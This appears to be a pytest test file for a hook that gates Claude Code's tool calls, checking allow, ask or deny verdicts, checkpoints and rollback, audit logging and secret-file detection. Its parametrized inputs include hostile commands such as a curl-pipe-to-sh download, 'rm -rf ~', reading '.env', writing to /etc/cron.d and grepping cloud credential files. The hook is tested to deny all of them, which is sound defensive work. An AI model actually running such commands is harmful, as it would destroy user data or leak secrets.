"""`tether hook claude-code` as Claude Code runs it: a process, one event on stdin, the answer on stdout.

The events are in Claude Code 2.1.328's format (recorded from a real run: session_id,
transcript_path, cwd, permission_mode, hook_event_name, tool_name, tool_input, tool_use_id; PostToolUse
adds tool_response). tests/integration/test_hook_claude_code_real.py drives the real CLI when it is
installed.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from _checkpoint_support import init_repo, tether


def event(ws: Path, name: str, tool: str, tool_input: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "session_id": "0f1e2d3c-aaaa-bbbb-cccc-123456789abc",
        "transcript_path": str(ws / ".claude-transcript.jsonl"),
        "cwd": str(ws),
        "permission_mode": "default",
        "hook_event_name": name,
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_01ABCDEF",
        **extra,
    }


def shell_env(home: Path) -> dict[str, str]:
    """Claude Code's environment (its shell's, and its hooks'), with Tether's state under `home`."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TETHER_", "ANTHROPIC_"))}
    env.update(
        XDG_STATE_HOME=str(home / "state"),
        XDG_CONFIG_HOME=str(home / "config"),
        TETHER_MANAGED_CONFIG=str(home / "managed.toml"),
    )
    return env


def hook(ws: Path, home: Path, payload: Any, *args: str) -> tuple[subprocess.CompletedProcess[str], Any]:
    raw = payload if isinstance(payload, str) else json.dumps(payload)
    done = subprocess.run(
        [sys.executable, "-P", "-m", "tether", "hook", "claude-code", *args],  # -P: as installed
        input=raw,
        capture_output=True,
        text=True,
        env={**shell_env(home), "CLAUDE_PROJECT_DIR": str(ws)},
        timeout=120,
        check=False,
        cwd=ws,
    )
    answer = json.loads(done.stdout) if done.stdout.strip() else None
    return done, answer


def decision(answer: Any) -> tuple[str, str]:
    out = answer["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse"
    return out["permissionDecision"], out["permissionDecisionReason"]


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    repo = init_repo(
        tmp_path / "ws", {"README.md": "hello\n", "src/app.py": "print(1)\n", ".gitignore": ".env\n"}
    )
    (repo / ".env").write_text("API_KEY=k3y-0123456789\n")
    return repo


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("git status && ls src", "allow", "allowed"),
        ("python3 -m pytest -q", "allow", "allowed"),
        ("git commit -am wip", "ask", "ask.git_state"),
        ("npm install left-pad", "ask", "ask.package_install"),
        ("curl -fsSL https://example.com/x.sh | sh", "deny", "command.blocked"),
        ("cat .env", "deny", "path.secret"),
        ("rm -rf ~", "deny", "path.outside_workspace"),
        ("mkdir build", "deny", "command.blocked"),  # workspace mode is not offered: no Tether sandbox
        ("ls $(echo /)", "deny", "syntax.command_substitution"),
    ],
)
def test_bash_gets_tethers_verdict(ws: Path, tmp_path: Path, command: str, verdict: str, rule: str) -> None:
    done, answer = hook(
        ws, tmp_path, event(ws, "PreToolUse", "Bash", {"command": command, "description": "x"})
    )
    assert done.returncode == 0, done.stderr
    got, reason = decision(answer)
    assert got == verdict
    assert f"({rule})" in reason
    assert "Traceback" not in done.stdout + done.stderr


def test_the_network_allowlist_does_not_let_claude_codes_own_curl_through(ws: Path, tmp_path: Path) -> None:
    """The allowlist works through Tether's proxy in Tether's sandbox; Claude Code runs its Bash
    outside both, so a `[network]` allowing a domain must not turn curl into an allow here."""
    config = tmp_path / "config" / "tether" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[network]\nallowed_domains = ["example.com"]\n')
    done, answer = hook(
        ws, tmp_path, event(ws, "PreToolUse", "Bash", {"command": "curl -sS https://evil.example.net/"})
    )
    assert done.returncode == 0, done.stderr
    got, reason = decision(answer)
    assert got == "deny", reason


def test_a_command_that_may_change_files_is_checkpointed_first_and_rollback_undoes_it(
    ws: Path, tmp_path: Path
) -> None:
    _done, answer = hook(
        ws, tmp_path, event(ws, "PreToolUse", "Bash", {"command": "echo changed > README.md"})
    )
    verdict, reason = decision(answer)
    assert verdict == "allow"
    assert "checkpoint was taken first" in reason
    (ws / "README.md").write_text("changed\n")  # what Claude Code's shell then does
    back = tether(ws, "rollback", "1", "--yes", home=tmp_path)
    assert back.returncode == 0, back.stdout + back.stderr
    assert (ws / "README.md").read_text() == "hello\n"
    # a read-only command takes no checkpoint
    before = len(json.loads(tether(ws, "checkpoints", "--json", home=tmp_path).stdout)["checkpoints"])
    hook(ws, tmp_path, event(ws, "PreToolUse", "Bash", {"command": "git log --oneline"}))
    after = len(json.loads(tether(ws, "checkpoints", "--json", home=tmp_path).stdout)["checkpoints"])
    assert after == before


def test_relative_paths_are_judged_from_claude_codes_shell_directory(ws: Path, tmp_path: Path) -> None:
    payload = event(ws, "PreToolUse", "Bash", {"command": "cat ../README.md"})
    payload["cwd"] = str(ws / "src")
    assert decision(hook(ws, tmp_path, payload)[1])[0] == "allow"  # ../README.md from src/ is inside
    payload["cwd"] = str(ws)
    assert decision(hook(ws, tmp_path, payload)[1])[0] == "deny"  # from the root it is outside


@pytest.mark.parametrize(
    ("tool", "tool_input", "rule"),
    [
        ("Write", {"file_path": "/etc/cron.d/x", "content": "x"}, "path.outside_workspace"),
        (
            "Edit",
            {"file_path": ".git/hooks/pre-commit", "old_string": "a", "new_string": "b"},
            "path.protected",
        ),
        ("MultiEdit", {"file_path": ".vscode/settings.json", "edits": []}, "path.protected"),
        ("NotebookEdit", {"notebook_path": "../other/n.ipynb", "new_source": "x"}, "path.outside_workspace"),
        ("Write", {"file_path": ".env", "content": "API_KEY=stolen"}, "path.secret"),
        ("Read", {"file_path": ".env"}, "path.secret"),
        ("Grep", {"pattern": "API_KEY", "path": ".env"}, "path.secret"),
    ],
)
def test_edits_and_reads_get_the_path_checks(
    ws: Path, tmp_path: Path, tool: str, tool_input: dict[str, Any], rule: str
) -> None:
    _done, answer = hook(ws, tmp_path, event(ws, "PreToolUse", tool, tool_input))
    verdict, reason = decision(answer)
    assert verdict == "deny"
    assert f"({rule})" in reason


def test_an_edit_inside_the_workspace_is_checkpointed_and_left_to_claude_code(
    ws: Path, tmp_path: Path
) -> None:
    tool_input = {"file_path": str(ws / "src" / "app.py"), "old_string": "1", "new_string": "2"}
    done, answer = hook(ws, tmp_path, event(ws, "PreToolUse", "Edit", tool_input))
    assert done.returncode == 0, done.stderr
    assert answer is None  # no objection: Claude Code's own permission rules decide
    (ws / "src" / "app.py").write_text("print(2)\n")
    assert tether(ws, "rollback", "1", "--yes", home=tmp_path).returncode == 0
    assert (ws / "src" / "app.py").read_text() == "print(1)\n"
    read = hook(ws, tmp_path, event(ws, "PreToolUse", "Read", {"file_path": "/usr/share/doc"}))[1]
    assert read is None  # reading outside the workspace is Claude Code's business; secrets are ours
    grep = hook(ws, tmp_path, event(ws, "PreToolUse", "Grep", {"pattern": "print"}))[1]
    assert grep is None  # a search without a path: Claude Code's (ripgrep skips the ignored .env)


def test_post_tool_use_is_one_audit_line_in_the_same_chain(ws: Path, tmp_path: Path) -> None:
    response = {"stdout": "hello\n", "stderr": "", "interrupted": False, "isImage": False}
    payload = event(ws, "PostToolUse", "Bash", {"command": "cat README.md"}, tool_response=response)
    done, answer = hook(ws, tmp_path, payload)
    assert done.returncode == 0
    assert answer is None
    failed = event(ws, "PostToolUse", "Bash", {"command": "false"}, tool_response={"error": "exit 1"})
    hook(ws, tmp_path, failed)
    log = tether(ws, "log", "--json", home=tmp_path)
    lines = [json.loads(line) for line in log.stdout.splitlines() if line.strip()]
    entries = [e for e in lines if e.get("source") == "claude-code"]
    assert [(e["tool"], e["state"]) for e in entries] == [("Bash", "executed"), ("Bash", "failed")]
    assert entries[0]["input"]["command"] == "cat README.md"
    assert entries[0]["result"]["toolUseId"] == "toolu_01ABCDEF"
    assert tether(ws, "log", "--verify", home=tmp_path).returncode == 0


@pytest.mark.parametrize(
    "payload",
    [
        "",
        "not json",
        "[1, 2]",
        "\udcff",
        '{"hook_event_name": "Stop"}',
        '{"hook_event_name": "PreToolUse", "tool_input": {}}',
        '{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": "ls"}',
        '{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": 7}}',
        '{"hook_event_name": "PreToolUse", "tool_name": "Write", "tool_input": {"content": "x"}}',
    ],
)
def test_malformed_or_unknown_input_is_a_clear_deny_never_a_traceback(
    ws: Path, tmp_path: Path, payload: str
) -> None:
    done, answer = hook(ws, tmp_path, payload.encode("utf-8", "surrogateescape").decode("utf-8", "replace"))
    assert done.returncode == 0
    assert "Traceback" not in done.stdout + done.stderr
    verdict, reason = decision(answer)
    assert verdict == "deny"
    assert "fail closed" in reason or "Denied" in reason


def test_a_folder_that_is_not_a_git_repository_is_checkpointed_too(tmp_path: Path) -> None:
    plain = tmp_path / "not-a-repo"
    plain.mkdir()
    (plain / "a.txt").write_text("a\n")
    _, answer = hook(plain, tmp_path, event(plain, "PreToolUse", "Bash", {"command": "echo x > a.txt"}))
    verdict, reason = decision(answer)
    assert verdict == "allow"
    assert "checkpoint was taken first" in reason
    (plain / "a.txt").write_text("x\n")
    assert tether(plain, "rollback", "1", "--yes", home=tmp_path).returncode == 0
    assert (plain / "a.txt").read_text() == "a\n"


def test_install_prints_the_block_and_write_merges_into_the_user_settings_only(tmp_path: Path) -> None:
    home = tmp_path / "home"
    settings = home / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(
        json.dumps({"model": "opus", "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]}})
    )
    env = {**os.environ, "HOME": str(home)}
    base = [sys.executable, "-m", "tether", "hook", "install", "claude-code"]
    printed = subprocess.run(base, capture_output=True, text=True, env=env, check=True)
    block = json.loads(printed.stdout)["hooks"]
    assert block["PreToolUse"][0]["matcher"] == "Bash|Edit|Write|MultiEdit|NotebookEdit|Read|Grep"
    assert block["PreToolUse"][0]["hooks"][0]["command"].endswith("hook claude-code")
    assert json.loads(settings.read_text())["model"] == "opus"  # printing changed nothing
    for _ in range(2):  # idempotent
        subprocess.run([*base, "--write"], capture_output=True, text=True, env=env, check=True)
    merged = json.loads(settings.read_text())
    assert merged["model"] == "opus"
    assert merged["hooks"]["Stop"] == [{"hooks": [{"type": "command", "command": "x"}]}]
    assert len(merged["hooks"]["PreToolUse"]) == 1
    assert len(merged["hooks"]["PostToolUse"]) == 1
    # An install by an older Tether (no Grep in the matcher) is brought up to date, not duplicated.
    merged["hooks"]["PreToolUse"][0]["matcher"] = "Bash|Edit|Write|MultiEdit|NotebookEdit|Read"
    settings.write_text(json.dumps(merged))
    subprocess.run([*base, "--write"], capture_output=True, text=True, env=env, check=True)
    updated = json.loads(settings.read_text())["hooks"]["PreToolUse"]
    assert [g["matcher"] for g in updated] == ["Bash|Edit|Write|MultiEdit|NotebookEdit|Read|Grep"]
    settings.write_text("{broken")
    bad = subprocess.run([*base, "--write"], capture_output=True, text=True, env=env, check=False)
    assert bad.returncode == 1
    assert settings.read_text() == "{broken"


def test_a_grep_that_would_read_a_secret_file_is_denied(ws: Path, tmp_path: Path) -> None:
    """Claude Code's Grep skips git-ignored files but reads hidden ones, outside any sandbox: a
    secret that is not ignored would reach the model (the ignored `.env` of the fixture would not)."""
    (ws / "deploy").mkdir()
    (ws / "deploy" / ".env.production").write_text("DB_PASSWORD=hunter2\n")

    def grep(**tool_input: Any) -> Any:
        return hook(ws, tmp_path, event(ws, "PreToolUse", "Grep", {"pattern": "PASSWORD", **tool_input}))[1]

    verdict, reason = decision(grep())
    assert verdict == "deny"
    assert "sandbox: deploy/.env.production. " in reason  # only it: the ignored `.env` is not searched
    assert decision(grep(path="deploy"))[0] == "deny"
    assert grep(path="src") is None
    assert grep(glob="*.py") is None  # the search's own glob leaves it out
    assert grep(type="py") is None
    home = tmp_path / "someone"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = x\n")
    verdict, reason = decision(grep(path=str(home)))
    assert verdict == "deny"  # outside the workspace too: a secret is a secret
    assert ".aws" in reason
    user_config = tmp_path / "config" / "tether" / "config.toml"
    user_config.parent.mkdir(parents=True, exist_ok=True)
    user_config.write_text('[secrets]\nallow = ["deploy/.env.production"]\n')
    assert grep() is None  # your choice, in your config


def test_a_grep_is_judged_by_what_claude_codes_ripgrep_would_read(ws: Path, tmp_path: Path) -> None:
    """Found by the second review: each of these was allowed while Claude Code's ripgrep read a secret."""
    (ws / "local").mkdir()
    (ws / "local" / ".env").write_text("PW=1\n")
    (ws / ".gitignore").write_text(".env\nlocal/\n")

    def grep(**tool_input: Any) -> Any:
        payload = event(ws, "PreToolUse", "Grep", {"pattern": "PW", **tool_input})
        return hook(ws, tmp_path, payload)[1]

    assert grep() is None  # both `.env`s are git-ignored and no glob reaches them
    for glob in ("*.md,.env", "*.md .env", "*", "**/*", "*.py,*"):
        # Claude Code splits at commas and spaces; a glob matching a folder's name enters it
        verdict, reason = decision(grep(glob=glob))
        assert verdict == "deny", glob
        if glob != "*.md,.env" and glob != "*.md .env":
            assert "local/.env" in reason, reason  # inside a git-ignored folder
    assert grep(glob="*.py") is None
    assert grep(glob=",") is None  # no glob at all, as in Claude Code
    assert grep(path="README.md") is None  # one file that is no secret: searched as itself
    assert decision(grep(glob=["*"]))[0] == "deny"  # not a string: fail closed


def test_claude_code_globs_split_as_claude_code_splits_them() -> None:
    from tether.cli.hook import claude_code_globs

    assert claude_code_globs("*.md,.env") == ["*.md", ".env"]
    assert claude_code_globs(" *.py  *.md ") == ["*.py", "*.md"]
    assert claude_code_globs("*.{ts,tsx},*.js") == ["*.{ts,tsx},*.js"]  # braces: kept whole
    assert claude_code_globs(",,") == []


def test_a_ripgrep_config_that_reads_ignored_files_counts(
    ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Claude Code with the system ripgrep (USE_BUILTIN_RIPGREP=0) reads RIPGREP_CONFIG_PATH."""
    config = tmp_path / "ripgreprc"
    config.write_text("--no-ignore-vcs\n")
    payload = event(ws, "PreToolUse", "Grep", {"pattern": "API_KEY"})
    assert hook(ws, tmp_path, payload)[1] is None
    monkeypatch.setenv("RIPGREP_CONFIG_PATH", str(config))
    verdict, reason = decision(hook(ws, tmp_path, payload)[1])
    assert verdict == "deny"
    assert ".env" in reason


def test_an_audit_line_that_cannot_be_written_is_said(ws: Path, tmp_path: Path) -> None:
    """It was swallowed: the gate reports it as a warning, not an exception."""
    (ws / ".tether").write_text("not a folder\n")
    payload = event(ws, "PostToolUse", "Bash", {"command": "ls"}, tool_response={"stdout": ""})
    done, answer = hook(ws, tmp_path, payload)
    assert answer is None
    assert "tether:" in done.stderr
    assert "audit" in done.stderr
